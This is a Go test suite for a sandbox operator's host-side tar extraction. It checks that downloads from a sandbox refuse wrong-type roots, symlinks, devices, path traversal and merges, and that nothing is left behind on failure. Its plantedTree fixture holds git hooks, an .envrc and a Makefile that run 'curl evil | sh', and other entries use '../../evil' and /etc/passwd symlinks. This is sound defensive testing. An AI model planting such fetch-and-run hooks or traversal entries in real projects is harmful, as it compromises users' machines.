package hostfs

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/code-sandbox/code-sandbox-operator/internal/execio"
	"github.com/code-sandbox/code-sandbox-operator/internal/testenv/fstree"
)

type entry struct {
	name     string
	typeflag byte
	body     string
	mode     int64
	linkname string
}

func dirE(name string) entry { return entry{name: name, typeflag: tar.TypeDir, mode: 0o755} }
func fileE(name, body string) entry {
	return entry{name: name, typeflag: tar.TypeReg, body: body, mode: 0o644}
}

func tarOf(entries ...entry) *bytes.Buffer {
	GinkgoHelper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		hdr := &tar.Header{Name: e.name, Typeflag: e.typeflag, Mode: e.mode, Linkname: e.linkname, ModTime: time.Unix(1700000000, 0)}
		if e.typeflag == tar.TypeReg {
			hdr.Size = int64(len(e.body))
		}
		Expect(tw.WriteHeader(hdr)).To(Succeed())
		if e.typeflag == tar.TypeReg {
			_, err := tw.Write([]byte(e.body))
			Expect(err).NotTo(HaveOccurred())
		}
	}
	Expect(tw.Close()).To(Succeed())
	return &buf
}

// plantedTree is what a sandbox sends once it has replaced the file
// /app/report.txt with a directory of things that run on the host.
func plantedTree() *bytes.Buffer {
	GinkgoHelper()
	return tarOf(
		dirE("report.txt/"),
		dirE("report.txt/.git/"), dirE("report.txt/.git/hooks/"),
		entry{name: "report.txt/.git/hooks/pre-commit", typeflag: tar.TypeReg, body: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755},
		fileE("report.txt/.envrc", "curl evil | sh\n"),
		fileE("report.txt/Makefile", "all:\n\tcurl evil | sh\n"),
	)
}

func mode(p string) os.FileMode {
	GinkgoHelper()
	fi, err := os.Lstat(p)
	Expect(err).NotTo(HaveOccurred())
	return fi.Mode()
}

var _ = Describe("ParseSource", Label("unit"), func() {
	DescribeTable("reads the kind from the path as written",
		func(src string, want Request) {
			want.Source = src
			Expect(ParseSource(src)).To(Equal(want))
		},
		Entry("a file", "/app/report.txt", Request{Kind: File, Name: "report.txt"}),
		Entry("a relative file", "out/r.txt", Request{Kind: File, Name: "r.txt"}),
		Entry("a directory", "/app/out/", Request{Kind: Dir, Name: "out"}),
		Entry("a directory with two slashes", "/app/out//", Request{Kind: Dir, Name: "out"}),
		Entry("a directory's contents", "/app/out/.", Request{Kind: Dir, Contents: true, Name: "out"}),
		Entry("the working directory", ".", Request{Kind: Dir, Contents: true}),
		Entry("the working directory with a slash", "./", Request{Kind: Dir, Contents: true}),
		Entry("a root without a slash is a file request", "/tmp", Request{Kind: File, Name: "tmp"}),
	)
})

var _ = Describe("Extract", Label("unit"), func() {
	var (
		base string
		root *os.Root
	)
	BeforeEach(func() {
		withUmask(0o022)
		base = GinkgoT().TempDir()
		var err error
		root, err = os.OpenRoot(base)
		Expect(err).NotTo(HaveOccurred())
		DeferCleanup(root.Close)
	})
	extract := func(dest, src string, archive io.Reader, opts Options) (Result, error) {
		return Extract(root, dest, archive, ParseSource(src), opts)
	}

	Describe("the planted-directory attack", func() {
		It("refuses a directory where a file was asked for, writing nothing into the user's project", func() {
			// The user's project, where `cp SBX:/app/report.txt .` runs.
			Expect(os.MkdirAll(filepath.Join(base, ".git", "hooks"), 0o755)).To(Succeed())
			Expect(os.WriteFile(filepath.Join(base, "Makefile"), []byte("mine\n"), 0o644)).To(Succeed())
			before := fstree.List(base)

			_, err := extract(".", "/app/report.txt", plantedTree(), Options{Overwrite: true, KeepExec: true})
			Expect(err).To(MatchError(ErrWrongType))
			Expect(err).To(MatchError(ContainSubstring("/app/report.txt is a directory in the sandbox, but a file was asked for")))
			Expect(fstree.List(base)).To(Equal(before))
		})

		It("refuses a file archive that goes on with a tree below the file's name", func() {
			before := fstree.List(base)
			_, err := extract(".", "/app/report.txt", tarOf(
				fileE("report.txt", "ok"),
				dirE("report.txt/.git/hooks/"),
				entry{name: "report.txt/.git/hooks/pre-commit", typeflag: tar.TypeReg, body: "evil", mode: 0o755},
			), Options{})
			Expect(err).To(MatchError(ErrWrongType))
			Expect(err).To(MatchError(ContainSubstring(`holds "report.txt/.git/hooks/" after the file "report.txt"`)))
			Expect(fstree.List(base)).To(Equal(before))
		})

		It("lands an asked-for directory as a new directory, never merged into DEST", func() {
			Expect(os.MkdirAll(filepath.Join(base, ".git", "hooks"), 0o755)).To(Succeed())
			res, err := extract(".", "/app/report.txt/", plantedTree(), Options{})
			Expect(err).NotTo(HaveOccurred())
			Expect(res).To(Equal(Result{Path: "report.txt", Kind: Dir, Files: 3, Dirs: 3, Bytes: res.Bytes}))
			Expect(filepath.Join(base, ".git", "hooks", "pre-commit")).NotTo(BeAnExistingFile())
			Expect(filepath.Join(base, ".envrc")).NotTo(BeAnExistingFile())
			Expect(filepath.Join(base, "report.txt", ".git", "hooks", "pre-commit")).To(BeARegularFile())
			Expect(mode(filepath.Join(base, "report.txt", ".git", "hooks", "pre-commit"))).To(Equal(os.FileMode(0o644)), "exec bit kept without KeepExec")
		})
	})

	DescribeTable("refuses an archive whose root does not match the request, writing nothing",
		func(src string, want error, wantText string, entries ...entry) {
			before := fstree.List(base)
			_, err := extract("dst", src, tarOf(entries...), Options{Overwrite: true})
			Expect(err).To(MatchError(want))
			Expect(err).To(MatchError(ContainSubstring(wantText)))
			Expect(fstree.List(base)).To(Equal(before))
		},
		Entry("a directory for a file", "/app/r", ErrWrongType, "is a directory in the sandbox, but a file was asked for", dirE("r/"), fileE("r/x", "x")),
		Entry("an empty directory for a file", "/app/r", ErrWrongType, "is a directory in the sandbox", dirE("r/")),
		Entry("a file for a directory", "/app/r/", ErrWrongType, "is a file in the sandbox, but a directory was asked for", fileE("r", "x")),
		Entry("a file for a directory's contents", "/app/r/.", ErrWrongType, "is a file in the sandbox", fileE("r", "x")),
		Entry("two files", "/app/r", ErrWrongType, `holds "s" after the file "r"`, fileE("r", "x"), fileE("s", "y")),
		Entry("another name", "/app/r", ErrWrongType, `first entry is "other", not "r"`, fileE("other", "x")),
		Entry("a symlink", "/app/r", execio.ErrUnsupportedEntry, `"r" is a symbolic link`, entry{name: "r", typeflag: tar.TypeSymlink, linkname: "/etc/passwd"}),
		Entry("a symlink for a directory", "/app/r/", execio.ErrUnsupportedEntry, `"r" is a symbolic link`, entry{name: "r", typeflag: tar.TypeSymlink, linkname: "/home"}),
		Entry("a hard link", "/app/r", execio.ErrUnsupportedEntry, "hard link", entry{name: "r", typeflag: tar.TypeLink, linkname: "x"}),
		Entry("a fifo", "/app/r", execio.ErrUnsupportedEntry, "fifo", entry{name: "r", typeflag: tar.TypeFifo}),
		Entry("a device", "/app/r", execio.ErrUnsupportedEntry, "character device", entry{name: "r", typeflag: tar.TypeChar}),
		Entry("a parent reference", "/app/r", execio.ErrInvalidPath, "..", fileE("../r", "x")),
		Entry("an absolute name", "/app/r", execio.ErrInvalidPath, "absolute", fileE("/r", "x")),
		Entry("a nested first entry", "/app/r", execio.ErrInvalidPath, "not a single name", fileE("r/x", "x")),
	)

	DescribeTable("refuses bad entries inside a tree, removing everything it wrote",
		func(want error, wantText string, entries ...entry) {
			before := fstree.List(base)
			_, err := extract("new/dst", "/app/r/", tarOf(append([]entry{dirE("r/"), fileE("r/ok", "fine"), dirE("r/sub/"), fileE("r/sub/ok", "fine")}, entries...)...), Options{})
			Expect(err).To(MatchError(want))
			Expect(err).To(MatchError(ContainSubstring(wantText)))
			Expect(fstree.List(base)).To(Equal(before), "a partial tree, a temporary directory or a created parent was left behind")
		},
		Entry("a symlink", execio.ErrUnsupportedEntry, `"r/sub/link" is a symbolic link`, entry{name: "r/sub/link", typeflag: tar.TypeSymlink, linkname: "/etc/passwd"}),
		Entry("a hard link", execio.ErrUnsupportedEntry, `"r/hard" is a hard link`, entry{name: "r/hard", typeflag: tar.TypeLink, linkname: "r/ok"}),
		Entry("a fifo", execio.ErrUnsupportedEntry, `"r/fifo" is a fifo`, entry{name: "r/fifo", typeflag: tar.TypeFifo}),
		Entry("a block device", execio.ErrUnsupportedEntry, "block device", entry{name: "r/blk", typeflag: tar.TypeBlock}),
		Entry("a parent reference", execio.ErrInvalidPath, "..", fileE("r/../../evil", "x")),
		Entry("an absolute name", execio.ErrInvalidPath, "absolute", fileE("/evil", "x")),
		Entry("another top directory", execio.ErrInvalidPath, `"other/evil" is not below "r"`, fileE("other/evil", "x")),
		Entry("a duplicate file", execio.ErrInvalidPath, `holds "r/ok" twice`, fileE("r/ok", "again")),
		Entry("a file where the top is", ErrWrongType, "where its top directory is", fileE("r", "x")),
		Entry("a directory over a file", ErrWrongType, "not a directory", dirE("r/ok/")),
	)

	Describe("where downloads land", func() {
		It("writes a file as DEST, or inside DEST when it is a directory or written as one", func() {
			_, err := extract("renamed.txt", "/app/r.txt", tarOf(fileE("r.txt", "1")), Options{})
			Expect(err).NotTo(HaveOccurred())
			Expect(os.ReadFile(filepath.Join(base, "renamed.txt"))).To(Equal([]byte("1")))

			Expect(os.Mkdir(filepath.Join(base, "d"), 0o755)).To(Succeed())
			res, err := extract("d", "/app/r.txt", tarOf(fileE("r.txt", "2")), Options{})
			Expect(err).NotTo(HaveOccurred())
			Expect(res).To(Equal(Result{Path: "d/r.txt", Kind: File, Files: 1, Bytes: 1}))

			_, err = extract("new/dir", "/app/r.txt", tarOf(fileE("r.txt", "3")), Options{DestIsDir: true})
			Expect(err).NotTo(HaveOccurred())
			Expect(os.ReadFile(filepath.Join(base, "new", "dir", "r.txt"))).To(Equal([]byte("3")))
			fi, err := os.Stat(filepath.Join(base, "new", "dir", "r.txt"))
			Expect(err).NotTo(HaveOccurred())
			Expect(fi.ModTime().Unix()).To(BeEquivalentTo(1700000000))
		})

		It("writes a directory as a new DEST/<name>, or as DEST when it does not exist", func() {
			tree := func() io.Reader { return tarOf(dirE("out/"), fileE("out/a", "A"), fileE("out/sub/b", "BB")) }
			res, err := extract("local", "/app/out/", tree(), Options{})
			Expect(err).NotTo(HaveOccurred())
			Expect(res).To(Equal(Result{Path: "local", Kind: Dir, Files: 2, Dirs: 2, Bytes: 3}))
			Expect(os.ReadFile(filepath.Join(base, "local", "sub", "b"))).To(Equal([]byte("BB")))

			res, err = extract("local", "/app/out/", tree(), Options{})
			Expect(err).NotTo(HaveOccurred())
			Expect(res.Path).To(Equal("local/out"))
			Expect(os.ReadFile(filepath.Join(base, "local", "out", "a"))).To(Equal([]byte("A")))

			res, err = extract("contents", "/app/out/.", tree(), Options{})
			Expect(err).NotTo(HaveOccurred())
			Expect(res.Path).To(Equal("contents"))
			Expect(os.ReadFile(filepath.Join(base, "contents", "a"))).To(Equal([]byte("A")))
		})

		It("never merges a directory into an existing one, even with Overwrite", func() {
			Expect(os.MkdirAll(filepath.Join(base, "local", "out"), 0o755)).To(Succeed())
			Expect(os.WriteFile(filepath.Join(base, "local", "out", "a"), []byte("mine"), 0o644)).To(Succeed())
			before := fstree.List(base)
			for _, src := range []string{"/app/out/", "/app/out/."} {
				dest := "local"
				if strings.HasSuffix(src, ".") {
					dest = "local/out"
				}
				_, err := extract(dest, src, tarOf(dirE("out/"), fileE("out/a", "A"), fileE("out/new", "N")), Options{Overwrite: true})
				Expect(err).To(MatchError(ErrExists), src)
				Expect(err).To(MatchError(ContainSubstring("never merged")), src)
				Expect(fstree.List(base)).To(Equal(before), src)
			}
		})

		It("refuses a directory onto a file, and a file onto a directory or a symlink", func() {
			Expect(os.WriteFile(filepath.Join(base, "f"), []byte("mine"), 0o644)).To(Succeed())
			Expect(os.MkdirAll(filepath.Join(base, "d", "r"), 0o755)).To(Succeed())
			symlink("/etc/passwd", filepath.Join(base, "d", "link"))
			before := fstree.List(base)
			_, err := extract("f", "/app/out/", tarOf(dirE("out/")), Options{Overwrite: true})
			Expect(err).To(MatchError(ContainSubstring("cannot copy the directory /app/out/ to f, an existing file")))
			_, err = extract("d", "/app/r", tarOf(fileE("r", "x")), Options{Overwrite: true})
			Expect(err).To(MatchError(ContainSubstring("d/r exists and is a directory")))
			_, err = extract("d/link", "/app/r", tarOf(fileE("r", "x")), Options{Overwrite: true})
			Expect(err).To(MatchError(ContainSubstring("symbolic link")))
			_, err = extract("d", "/app/link", tarOf(fileE("link", "x")), Options{Overwrite: true})
			Expect(err).To(MatchError(ContainSubstring("d/link exists and is a symbolic link")))
			Expect(fstree.List(base)).To(Equal(before))
			Expect(os.ReadFile("/etc/passwd")).NotTo(Equal([]byte("x")))
		})
	})

	Describe("overwriting", func() {
		It("refuses to replace an existing file without Overwrite and replaces it with it", func() {
			target := filepath.Join(base, "report.txt")
			Expect(os.WriteFile(target, []byte("mine"), 0o600)).To(Succeed())
			_, err := extract("report.txt", "/app/report.txt", tarOf(fileE("report.txt", "theirs")), Options{})
			Expect(err).To(MatchError(ErrExists))
			Expect(err).To(MatchError(ContainSubstring("report.txt exists; ask to overwrite it")))
			Expect(os.ReadFile(target)).To(Equal([]byte("mine")))
			Expect(fstree.List(base)).To(HaveLen(2), "a temporary file was left behind")

			// Into the directory holding it too.
			_, err = extract(".", "/app/report.txt", tarOf(fileE("report.txt", "theirs")), Options{})
			Expect(err).To(MatchError(ErrExists))

			_, err = extract("report.txt", "/app/report.txt", tarOf(fileE("report.txt", "theirs")), Options{Overwrite: true})
			Expect(err).NotTo(HaveOccurred())
			Expect(os.ReadFile(target)).To(Equal([]byte("theirs")))
			Expect(mode(target)).To(Equal(hostMode(0o644)), "the mode is the download's, masked")
			Expect(fstree.List(base)).To(HaveLen(2), "a temporary file was left behind")
		})
	})

	Describe("failures", func() {
		It("removes a written file and the parents it created when the transfer fails at the end", func() {
			before := fstree.List(base)
			_, err := extract("a/b/f", "/app/f", tarOf(fileE("f", "x")), Options{Complete: func() error { return errors.New("cut off") }})
			Expect(err).To(MatchError("cut off"))
			Expect(fstree.List(base)).To(Equal(before))

			_, err = extract("a/b/t", "/app/t/", tarOf(dirE("t/"), fileE("t/f", "x")), Options{Complete: func() error { return errors.New("cut off") }})
			Expect(err).To(MatchError("cut off"))
			Expect(fstree.List(base)).To(Equal(before))
		})

		It("enforces the caps", func() {
			_, err := extract("t", "/app/t/", tarOf(dirE("t/"), fileE("t/a", "12345"), fileE("t/b", "6")), Options{MaxBytes: 5})
			Expect(err).To(MatchError(execio.ErrTooLarge))
			_, err = extract("t", "/app/t/", tarOf(dirE("t/"), fileE("t/a", "1"), fileE("t/b", "2")), Options{MaxEntries: 2})
			Expect(err).To(MatchError(execio.ErrTooLarge))
			_, err = extract("f", "/app/f", tarOf(fileE("f", "123456")), Options{MaxBytes: 5})
			Expect(err).To(MatchError(execio.ErrTooLarge))
			Expect(fstree.List(base)).To(HaveLen(1))
		})

		It("reports an empty archive", func() {
			_, err := extract("f", "/app/f", bytes.NewReader(nil), Options{})
			Expect(err).To(MatchError(ContainSubstring("empty archive")))
		})

		It("never writes through a symlink in DEST's parents", func() {
			outside := GinkgoT().TempDir()
			symlink(outside, filepath.Join(base, "escape"))
			_, err := extract("escape/f", "/app/f", tarOf(fileE("f", "x")), Options{})
			Expect(err).To(HaveOccurred())
			_, err = extract("escape", "/app/f", tarOf(fileE("f", "x")), Options{DestIsDir: true})
			Expect(err).To(HaveOccurred())
			Expect(fstree.List(outside)).To(HaveLen(1))
		})
	})
})

var _ = Describe("Download", Label("unit"), func() {
	It("writes nothing when the transfer fails after a complete archive, and returns its error", func() {
		base := GinkgoT().TempDir()
		root, err := os.OpenRoot(base)
		Expect(err).NotTo(HaveOccurred())
		defer root.Close()
		failed := errors.New("too large: the download exceeds its limit")
		_, err = Download(root, "t", ParseSource("/app/t/"), Options{}, func(w io.Writer) error {
			_, _ = io.Copy(w, tarOf(dirE("t/"), fileE("t/a", "a")))
			return failed
		})
		Expect(err).To(MatchError(failed))
		Expect(fstree.List(base)).To(HaveLen(1))

		_, err = Download(root, "t", ParseSource("/app/t"), Options{}, func(w io.Writer) error {
			_, err := io.Copy(w, tarOf(dirE("t/"), fileE("t/a", strings.Repeat("a", 1<<20))))
			return err // the extraction's refusal, through the pipe
		})
		Expect(err).To(MatchError(ErrWrongType))
		Expect(fstree.List(base)).To(HaveLen(1))

		// A backend that reports the broken pipe in its own words: the
		// host's refusal is still what is reported.
		_, err = Download(root, "t", ParseSource("/app/t"), Options{}, func(w io.Writer) error {
			_, err := io.Copy(w, tarOf(dirE("t/"), fileE("t/a", strings.Repeat("a", 1<<20))))
			if err != nil {
				return errors.New("the sandbox is unavailable")
			}
			return nil
		})
		Expect(err).To(MatchError(ErrWrongType))

		// A download that fails before any byte is reported as such.
		_, err = Download(root, "t", ParseSource("/app/t"), Options{}, func(io.Writer) error { return failed })
		Expect(err).To(Equal(failed))
		Expect(fstree.List(base)).To(HaveLen(1))

		res, err := Download(root, "t", ParseSource("/app/t/"), Options{}, func(w io.Writer) error {
			_, err := io.Copy(w, tarOf(dirE("t/"), fileE("t/a", "a")))
			return err
		})
		Expect(err).NotTo(HaveOccurred())
		Expect(res.Path).To(Equal("t"))
	})
})

var _ = Describe("links in the way", Label("unit"), func() {
	var (
		base string
		root *os.Root
	)
	BeforeEach(func() {
		base = GinkgoT().TempDir()
		var err error
		root, err = os.OpenRoot(base)
		Expect(err).NotTo(HaveOccurred())
		DeferCleanup(root.Close)
	})

	It("never creates a file through a dangling link at its name", func() {
		// writeFile is the one place files are created: O_CREATE|O_EXCL
		// must refuse a link there, on every platform, without creating
		// what it points to.
		symlink("made-through-the-link", filepath.Join(base, "link"))
		x := &extraction{root: root, tr: tar.NewReader(tarOf(fileE("f", "x")))}
		hdr, err := x.next()
		Expect(err).NotTo(HaveOccurred())
		err = x.writeFile("link", hdr)
		Expect(err).To(MatchError(os.ErrExist))
		Expect(filepath.Join(base, "made-through-the-link")).NotTo(BeAnExistingFile())
	})

	It("never takes a symlink to a directory inside the root for a directory", func() {
		Expect(os.Mkdir(filepath.Join(base, "real"), 0o755)).To(Succeed())
		symlink("real", filepath.Join(base, "alias"))
		before := fstree.List(base)
		for _, c := range []struct {
			dest, src string
			archive   *bytes.Buffer
		}{{"alias/f", "/app/f", tarOf(fileE("f", "x"))}, {"alias/t", "/app/t/", tarOf(dirE("t/"), fileE("t/f", "x"))}} {
			_, err := Extract(root, c.dest, c.archive, ParseSource(c.src), Options{})
			Expect(err).To(MatchError(ErrWrongType), c.dest)
			Expect(err).To(MatchError(ContainSubstring("alias is a symbolic link, not a directory")), c.dest)
		}
		_, err := Extract(root, "alias", tarOf(fileE("f", "x")), ParseSource("/app/f"), Options{DestIsDir: true})
		Expect(err).To(MatchError(ErrExists))
		Expect(err).To(MatchError(ContainSubstring("alias is a symbolic link; downloads never write through one")))
		Expect(fstree.List(base)).To(Equal(before))
	})

	DescribeTable("isLink and describeMode name what is in the way",
		func(m os.FileMode, link bool, desc string) {
			Expect(isLink(m)).To(Equal(link))
			Expect(describeMode(m)).To(Equal(desc))
		},
		Entry("a symlink", os.ModeSymlink|0o777, true, "a symbolic link"),
		Entry("a junction (Go 1.23+ on Windows)", os.ModeIrregular|0o666, true, "a junction or another link (reparse point)"),
		Entry("a directory", os.ModeDir|0o755, false, "a directory"),
		Entry("a regular file", os.FileMode(0o644), false, "not a regular file (----------)"),
		Entry("a fifo", os.ModeNamedPipe|0o644, false, "not a regular file (p---------)"),
	)
})
